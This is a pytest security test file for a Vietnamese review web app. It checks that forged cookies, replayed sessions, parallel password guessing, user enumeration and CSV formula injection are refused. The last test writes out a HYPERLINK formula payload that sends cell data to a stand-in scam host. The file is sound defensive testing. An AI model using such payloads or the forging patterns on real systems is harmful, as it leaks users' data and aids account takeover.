"""Hostile use of the review app (issue 10): forged and revoked sessions, parallel password guesses,
user enumeration, claims on someone else's item, the API map for strangers, HSTS, formula cells."""

from __future__ import annotations

import csv
import io
import stat
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Literal

import pytest
from argon2 import PasswordHasher
from fastapi.testclient import TestClient
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy.orm import Session, sessionmaker

import review.users
from review.app import create_app
from review.keys import KNOWN_KEYS, SecretKeyError
from review.users import set_password
from settings import Settings
from tests.review.support import PASSWORD, World, csrf_of, item_version, login, post_action, snapshot



def _error_of(html: str) -> str:
    start = html.index('<p class="error" role="alert">')
    return html[start:html.index("</p>", start)]


@pytest.fixture
def keyless(settings: Settings, world: World) -> Any:
    """The app as `nq71 serve` starts it without NQ71_SECRET_KEY."""
    app = create_app(settings.replace(login_max_failures=3))
    with TestClient(app, base_url="http://testserver", follow_redirects=False) as c:
        yield c
    app.state.engine.dispose()


def test_a_cookie_signed_with_the_old_builtin_key_opens_nothing(keyless: TestClient, settings: Settings, world: World) -> None:
    assert KNOWN_KEYS  # the keys that once shipped (review/keys.py): none of them may sign a cookie that opens anything
    for known in sorted(KNOWN_KEYS):
        forged = URLSafeTimedSerializer(known, salt="nq71-session").dumps({"uid": world.admin, "sid": "x", "csrf": "x", "flash": None})
        keyless.cookies.set("nq71_session", forged)
        assert keyless.get("/api/me").status_code == 401
    r = keyless.post("/users", data={"username": "ke.gia.mao", "password": "mat-khau-gia-mao-1", "role": "admin", "csrf": "x"})
    assert r.status_code in (303, 403) and "ke.gia.mao" not in keyless.get("/login").text
    key_file = settings.data_dir / "secret.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600 and len(key_file.read_text().strip()) >= 32
    # a restart keeps the key: an existing login survives it
    keyless.cookies.clear()
    login(keyless, "thamdinh.lan")
    again = create_app(settings)
    with TestClient(again, follow_redirects=False) as c2:
        c2.cookies.set("nq71_session", keyless.cookies["nq71_session"])
        assert c2.get("/api/me").json()["username"] == "thamdinh.lan"
    again.state.engine.dispose()


def test_a_published_or_short_key_is_refused_at_start(settings: Settings) -> None:
    for bad in (*sorted(KNOWN_KEYS), "ngan-qua"):
        with pytest.raises(SecretKeyError):
            create_app(settings.replace(secret_key=bad))


class CountingHasher(PasswordHasher):
    """argon2 with a count of the checks against real accounts' hashes (the dummy check is not a guess)."""

    checked = 0

    def verify(self, hash: str | bytes, password: str | bytes) -> Literal[True]:
        if hash != review.users._DUMMY_HASH:
            CountingHasher.checked += 1
        return super().verify(hash, password)


def test_parallel_wrong_passwords_check_at_most_the_limit_then_the_right_one_is_locked(
    app_settings: Settings, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(review.users, "_hasher", CountingHasher())
    CountingHasher.checked = 0
    app = create_app(app_settings.replace(login_address_max_failures=0))  # the account lockout alone
    with TestClient(app, follow_redirects=False) as c:
        token = csrf_of(c.get("/login").text)

        def guess(i: int) -> int:
            return c.post("/login", data={"username": "thamdinh.lan", "password": f"doan-mo-{i:03d}-sai", "csrf": token}).status_code

        with ThreadPoolExecutor(max_workers=16) as pool:
            codes = list(pool.map(guess, range(40)))
        assert codes == [401] * 40
        assert CountingHasher.checked <= app_settings.login_max_failures
        right = c.post("/login", data={"username": "thamdinh.lan", "password": PASSWORD, "csrf": token})
        assert right.status_code == 401 and CountingHasher.checked <= app_settings.login_max_failures
    app.state.engine.dispose()


def test_one_address_is_throttled_across_usernames(app_settings: Settings, world: World) -> None:
    app = create_app(app_settings.replace(login_address_max_failures=4))
    with TestClient(app, follow_redirects=False) as c:
        token = csrf_of(c.get("/login").text)
        codes = [c.post("/login", data={"username": f"nguoi.la.{i}", "password": "mat-khau-sai-123", "csrf": token}).status_code for i in range(6)]
        assert codes[:4] == [401] * 4 and codes[4:] == [429, 429]
        late = c.post("/login", data={"username": "thamdinh.lan", "password": PASSWORD, "csrf": token})
        assert late.status_code == 429 and "Quá nhiều lần đăng nhập sai" in late.text
    app.state.engine.dispose()


def test_known_and_unknown_users_get_the_same_answer(client: TestClient, world: World) -> None:
    token = csrf_of(client.get("/login").text)
    known = client.post("/login", data={"username": "thamdinh.lan", "password": "sai-mat-khau-123", "csrf": token})
    unknown = client.post("/login", data={"username": "khong.co.ai", "password": "sai-mat-khau-123", "csrf": token})
    assert known.status_code == unknown.status_code == 401
    assert _error_of(known.text) == _error_of(unknown.text)


def test_logout_ends_the_session_on_the_server(client: TestClient, world: World) -> None:
    token = login(client, "thamdinh.lan")
    stolen = client.cookies["nq71_session"]
    assert client.post("/logout", data={"csrf": token}).status_code == 303
    client.cookies.clear()
    client.cookies.set("nq71_session", stolen)  # the old cookie, replayed
    assert client.get("/api/me").status_code == 401


def test_a_password_change_and_a_deactivation_end_every_session(
    client: TestClient, app_settings: Settings, world: World, sessions: sessionmaker[Session]
) -> None:
    login(client, "thamdinh.lan")
    with sessions() as s, s.begin():
        set_password(s, "thamdinh.lan", "mật-khẩu-mới-2026-12")
    assert client.get("/api/me").status_code == 401
    app = create_app(app_settings)
    with TestClient(app, follow_redirects=False) as admin, TestClient(app, follow_redirects=False) as victim:
        login(victim, "thamdinh.minh")
        token = login(admin, "quantri")
        assert admin.post(f"/users/{world.reviewer2}/deactivate", data={"csrf": token}).status_code == 303
        assert victim.get("/api/me").status_code == 401
    app.state.engine.dispose()


def test_a_reviewer_cannot_register_a_claim_from_an_item_another_reviewer_decided(
    client: TestClient, world: World, sessions: sessionmaker[Session]
) -> None:
    token = login(client, "thamdinh.minh")  # the resolved item was decided by thamdinh.lan
    before = snapshot(sessions)
    r = post_action(client, token, world.resolved_item, "claim", item_version(sessions, world.resolved_item),
                    text="Hải Phòng dừng bữa ăn bán trú ở mọi trường tiểu học.")
    assert r.status_code == 403 and "người được giao hoặc giám sát viên" in r.text
    assert snapshot(sessions) == before


def test_the_api_document_needs_a_login(client: TestClient, world: World) -> None:
    assert client.get("/api/openapi.json").status_code == 401
    assert client.get("/docs").status_code == 404 and client.get("/redoc").status_code == 404
    login(client, "thamdinh.lan")
    assert "/api/queue" in client.get("/api/openapi.json").json()["paths"]


def test_hsts_only_behind_https(client: TestClient, app_settings: Settings, world: World) -> None:
    assert "strict-transport-security" not in client.get("/login").headers
    app = create_app(app_settings.replace(cookie_secure=True))
    with TestClient(app, base_url="https://testserver", follow_redirects=False) as c:
        assert c.get("/login").headers["strict-transport-security"].startswith("max-age=31536000")
    app.state.engine.dispose()


def test_a_formula_note_is_plain_text_in_the_audit_csv(client: TestClient, world: World, sessions: sessionmaker[Session]) -> None:
    note = '=HYPERLINK("http://lừa-đảo.example/?"&A1,"Bấm")'
    token = login(client, "giamsat.hoa")
    r = post_action(client, token, world.merger_item, "verdict", item_version(sessions, world.merger_item), verdict="tin_gia", note=note)
    assert r.status_code == 303
    body = client.get("/audit.csv", params={"from": "2000-01-01", "to": "2999-12-31"}).text
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    notes = [row[-1] for row in rows[1:]]
    assert "'" + note in notes
    assert not [c for row in rows for c in row if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
